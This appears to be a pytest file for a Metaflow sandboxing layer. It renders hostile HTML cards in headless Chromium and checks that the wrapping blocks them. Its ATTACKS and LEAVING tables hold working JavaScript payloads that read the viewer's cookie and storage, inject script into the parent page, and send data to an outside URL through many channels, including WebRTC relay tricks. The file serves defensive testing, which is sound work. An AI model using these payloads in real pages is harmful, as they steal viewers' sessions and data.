"""Hostile cards in a real browser: what a card's script reaches of its viewer, and of the network.

A viewer's page, with a cookie and secrets of its own, shows each card in a frame, as
Metaflow's does. Each attack is a card of its own: as Metaflow would store it, where it
has to succeed (the control), and as admission stores it, where it must not. Network is
another server on this machine, which notes who calls.
"""

import html
import http.server
import json
import shutil
import socket
import subprocess
import tempfile
import threading

import pytest

from metaflow_sandbox.admission.cards import wrap

SECRET = "canary-viewer"
FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--disable-dev-shm-usage", "--disable-popup-blocking",
]  # fmt: skip
#: How long is waited for what cards tried once all of them are there, in ms.
QUIET = 4000

#: {attack: script}. `tell(x)` says to the viewer what was read; OUT is a URL of the other
#: server, to which any request is a success; DOOR a port on which any connection is.
ATTACKS = {
    "cookie": "tell(document.cookie)",
    "local storage": "tell(localStorage.getItem('secret'))",
    "session storage": "tell(sessionStorage.getItem('secret'))",
    "parent document": "tell(parent.document.body.innerHTML)",
    "top document": "tell(top.document.body.innerHTML)",
    "a secret of the viewer's server": "fetch(VIEWER + '/secret', {credentials: 'include'})"
    ".then(r => r.text()).then(tell)",
    "a script into the viewer": "var s = top.document.createElement('script');"
    "s.textContent = 'fetch(\"' + OUT + '\", {mode: \"no-cors\"})';"
    "top.document.body.append(s)",
    "fetch": "fetch(OUT, {mode: 'no-cors'})",
    "fetch kept alive": "fetch(OUT, {mode: 'no-cors', keepalive: true})",
    "XMLHttpRequest": "var x = new XMLHttpRequest(); x.open('GET', OUT); x.send()",
    "sendBeacon": "navigator.sendBeacon(OUT, 'x')",
    "WebSocket": "new WebSocket(OUT.replace('http', 'ws'))",
    "EventSource": "new EventSource(OUT)",
    "image": "new Image().src = OUT",
    "image set": "add('<img srcset=\"' + OUT + ' 1x\">')",
    "SVG image": "add('<svg><image href=\"' + OUT + '\" width=9 height=9/></svg>')",
    "style sheet": "add('<link rel=stylesheet href=\"' + OUT + '\">')",
    "style import": "add('<style>@import \"' + OUT + '\";</style>')",
    "style background": "add('<p style=\"background: url(' + OUT + ')\">x</p>')",
    "font": "add('<style>@font-face {font-family: f; src: url(' + OUT + ')}"
    '</style><p style="font-family: f">x</p>\')',
    "script": "var s = document.createElement('script'); s.src = OUT; document.body.append(s)",
    "module": "import(OUT).catch(e => 0)",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + OUT + "
    '\'", {mode: "no-cors"})\'])))',
    "frame": "add('<iframe src=\"' + OUT + '\"></iframe>')",
    "frame of a document": "add('<iframe srcdoc=\"&lt;img src=' + OUT + '&gt;\"></iframe>')",
    "frame of data": "add('<iframe src=\"data:text/html,<img src=' + OUT + '>\"></iframe>')",
    "frame of a blob": "var f = document.createElement('iframe'); f.src = URL.createObjectURL("
    "new Blob(['<img src=' + OUT + '>'], {type: 'text/html'})); document.body.append(f)",
    "object": "add('<object data=\"' + OUT + '\"></object>')",
    "embed": "add('<embed src=\"' + OUT + '\">')",
    "video": "add('<video src=\"' + OUT + '\" preload=auto autoplay muted></video>')",
    "video poster": "add('<video poster=\"' + OUT + '\"></video>')",
    "audio": "add('<audio src=\"' + OUT + '\" preload=auto></audio>')",
    "prefetch": "add('<link rel=prefetch href=\"' + OUT + '\">')",
    "preload": "add('<link rel=preload as=script href=\"' + OUT + '\">')",
    "form": "add('<form action=\"' + OUT + '\"></form>').submit()",
    "form into a new window": "add('<form action=\"' + OUT + '\" target=_blank></form>').submit()",
    "its own location": "location = OUT",
    "refresh": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;url=' + OUT + "
    "'\">'",
    "link": "add('<a href=\"' + OUT + '\">x</a>').click()",
    "ping": "add('<a href=\"#x\" ping=\"' + OUT + '\">x</a>').click()",
    "window": "window.open(OUT)",
    "base": "document.head.innerHTML += '<base href=\"' + OUT + '/\">';"
    "new Image().src = 'relative'",
    "preconnect": "add('<link rel=preconnect href=\"http://127.0.0.1:' + DOOR + '\">')",
    "WebRTC over TCP": "call('turn:127.0.0.1:' + DOOR + '?transport=tcp')",
    "WebRTC of another document": "add('<iframe srcdoc=\"' + ('<script>' + call + '; DOOR = '"
    " + DOOR + '; call(\\'turn:127.0.0.1:\\' + DOOR + \\'?transport=tcp\\')</' + 'script>')"
    ".replace(/&/g, '&amp;').replace(/\"/g, '&quot;') + '\"></iframe>')",
    "WebRTC by its own script again": "window.name == 'again' ? call('turn:127.0.0.1:' + DOOR + "
    "'?transport=tcp') : add('<iframe name=again srcdoc=\"' + document.currentScript.outerHTML"
    ".replace(/&/g, '&amp;').replace(/\"/g, '&quot;') + '\"></iframe>')",
    "WebRTC of a fresh frame": "var f = document.createElement('iframe');"
    "document.body.append(f); window.RTCPeerConnection = f.contentWindow.RTCPeerConnection;"
    "call('turn:127.0.0.1:' + DOOR + '?transport=tcp')",
}
#: What a module declares, in the place of the browser's own.
DECLARED = {
    f"WebRTC of a module with its own {name}": f"function {name}() {{}}"
    for name in ("window", "globalThis", "self", "Function", "Object")
}
ATTACKS |= dict.fromkeys(DECLARED, "call('turn:127.0.0.1:' + DOOR + '?transport=tcp')")
#: What makes the viewer go away, each alone.
LEAVING = {
    "the viewer's location": "top.location = OUT",
    "a link to the top": "add('<a target=_top href=\"' + OUT + '\">x</a>').click()",
    "a form to the top": "add('<form target=_top action=\"' + OUT + '\"></form>').submit()",
}

_CARD = """<!DOCTYPE html><html><head><title>card</title></head><body><script%(kind)s>
%(declared)s
var VIEWER = %(viewer)r, OUT = %(out)r, DOOR = %(door)d, NAME = %(name)r;
function tell(x) { top.postMessage({name: NAME, read: String(x)}, '*'); }
function add(html) {
  var t = document.createElement('template'); t.innerHTML = html;
  var node = t.content.firstChild; document.body.append(t.content); return node;
}
function call(server) {
  var c = new RTCPeerConnection(
    {iceServers: [{urls: server, username: 'u', credential: 'c'}], iceTransportPolicy: 'relay'});
  c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o));
}
top.postMessage({name: NAME, ran: true}, '*');
try { %(script)s } catch (e) { top.postMessage({name: NAME, failed: String(e)}, '*'); }
</script></body></html>"""
_VIEWER = """<!DOCTYPE html><html><body><p>%(secret)s</p><script>
document.cookie = 'session=%(secret)s; SameSite=Lax';
localStorage.setItem('secret', '%(secret)s'); sessionStorage.setItem('secret', '%(secret)s');
addEventListener('message', function (e) {
  fetch('/told', {method: 'POST', body: JSON.stringify(e.data)});
});
addEventListener('load', function () {
  setTimeout(function () { fetch('/told', {method: 'POST', body: '{"over": true}'}); }, %(quiet)d);
});
</script>%(frames)s</body></html>"""


class Server(http.server.ThreadingHTTPServer):
    """Calls `answer(path, body)` for its body; None is an empty page."""

    daemon_threads = True
    policy = None

    def __init__(self, answer):
        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                length = int(self.headers.get("Content-Length") or 0)
                body = answer(self.path, self.rfile.read(length)) or b""
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                if self.server.policy:
                    self.send_header("Content-Security-Policy", self.server.policy)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *_):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def close(self):
        self.shutdown()
        self.server_close()


class Browser:
    """Shows cards in a viewer's page and says which attacks reached what they were after."""

    def __init__(self, stored):
        self.stored = stored
        self.reached, self.ran = {}, set()

    def show(self, attacks):
        names = list(attacks)
        self.reached, self.ran = {}, set()
        over = threading.Event()
        changed = threading.Lock()

        def note(name, what):
            with changed:
                self.reached.setdefault(name, what)
            if name in LEAVING:
                over.set()

        def outside(path, _):
            number = path.split("/")[1]
            if number.isdigit():
                note(names[int(number)], "network")

        def viewer(path, body):
            if path == "/told":
                told = json.loads(body)
                if SECRET in told.get("read", ""):
                    note(told["name"], "secret")
                if told.get("ran"):
                    self.ran.add(told["name"])
                if told.get("over"):
                    over.set()
                return None
            if path == "/secret":
                return SECRET.encode()
            if path.startswith("/card/"):
                return cards[int(path.split("/")[2])]
            if path == "/":
                frames = "".join(
                    f'<iframe width=9 height=9 src="/card/{i}"></iframe>' for i in range(len(names))
                )
                return (_VIEWER % {"secret": SECRET, "frames": frames, "quiet": QUIET}).encode()
            return None

        out, page = Server(outside), Server(viewer)
        doors = [Door(lambda name=name: note(name, "network")) for name in names]
        cards = [
            self.stored(
                (_CARD % {
                    "viewer": page.url, "out": f"{out.url}/{i}/x", "door": doors[i].port,
                    "name": name, "script": attacks[name],
                    "kind": " type=module" if name in DECLARED else "",
                    "declared": DECLARED.get(name, ""),
                }).encode()
            )
            for i, name in enumerate(names)
        ]  # fmt: skip
        profile = tempfile.mkdtemp(prefix="browser-")
        process = subprocess.Popen(
            [chromium(), *FLAGS, f"--user-data-dir={profile}", "--remote-debugging-port=0",
             page.url + "/"],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        try:
            assert over.wait(120), "the browser shows nothing"
        finally:
            process.kill()
            process.wait()
            for closing in (out, page, *doors):
                closing.close()
            shutil.rmtree(profile, ignore_errors=True)
        return self.reached


class Door:
    """A port: somebody who connects has reached the network."""

    def __init__(self, note):
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]

        def wait():
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            connection.close()
            note()

        threading.Thread(target=wait, daemon=True).start()

    def close(self):
        try:
            self._socket.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self._socket.close()


def chromium():
    found = shutil.which("chromium") or shutil.which("google-chrome")
    if found is None:
        pytest.fail("there is no browser to show cards in: apt-get install chromium")
    return found


def test_a_card_reaches_nothing_of_its_viewer_or_the_network():
    browser = Browser(wrap)
    reached = browser.show(ATTACKS)
    assert set(reached) <= {"preconnect"}  # which no policy holds: see cards.py
    assert browser.ran == set(ATTACKS)


def test_the_same_cards_as_metaflow_stores_them_reach_all_of_it():
    left = dict(ATTACKS)
    for _ in range(3):  # a busy browser puts off what is not urgent, as media are not
        for name in Browser(bytes).show(left):
            del left[name]
        if not left:
            return
    pytest.fail(f"these reach nothing without the wrapping either: {list(left)}")


RENDERED = """
    from metaflow import FlowSpec, card, current, sandbox, step
    from metaflow.cards import Markdown, Table

    class Rendered(FlowSpec):
        @card(type="%s")
        @sandbox(network=False)
        @step
        def start(self):
            self.value = 5
            current.card.append(Markdown("# Rendered " + "by a script"))
            current.card.append(Table([["a cell" + " of it"]]))
            self.next(self.end)

        @step
        def end(self):
            pass

    if __name__ == "__main__":
        Rendered()
"""


@pytest.mark.parametrize("kind", ["blank", "default"])
def test_metaflows_own_cards_are_rendered_under_the_policy(project, kind):
    project.write("flow.py", RENDERED % kind)
    project.run("flow.py", "run").ok()
    page = project.client(
        """
        from metaflow.cards import get_cards
        (card,) = get_cards(Flow("Rendered").latest_run["start"].task)
        answer = card.get()
        """
    )
    # The frame's document as a page of its own, since a browser prints no frames.
    policy = html.unescape(page.partition('Content-Security-Policy" content="')[2].split('"')[0])
    inner = html.unescape(page.partition('srcdoc="')[2].split('"')[0])
    server = Server(lambda path, _: inner.encode() if path == "/" else None)
    server.policy = f"sandbox allow-scripts; {policy}"
    profile = tempfile.mkdtemp(prefix="browser-")
    try:
        done = subprocess.run(
            [chromium(), *FLAGS, f"--user-data-dir={profile}", "--virtual-time-budget=20000",
             "--dump-dom", server.url + "/"],
            capture_output=True, text=True, timeout=120,
        )  # fmt: skip
    finally:
        server.close()
        shutil.rmtree(profile, ignore_errors=True)
    assert "Rendered by a script" in done.stdout
    assert "a cell of it" in done.stdout


@pytest.mark.parametrize("name", LEAVING)
def test_a_card_can_not_take_its_viewer_elsewhere(name):
    assert Browser(wrap).show({name: LEAVING[name]}) == {}
    assert Browser(bytes).show({name: LEAVING[name]}) == {name: "network"}
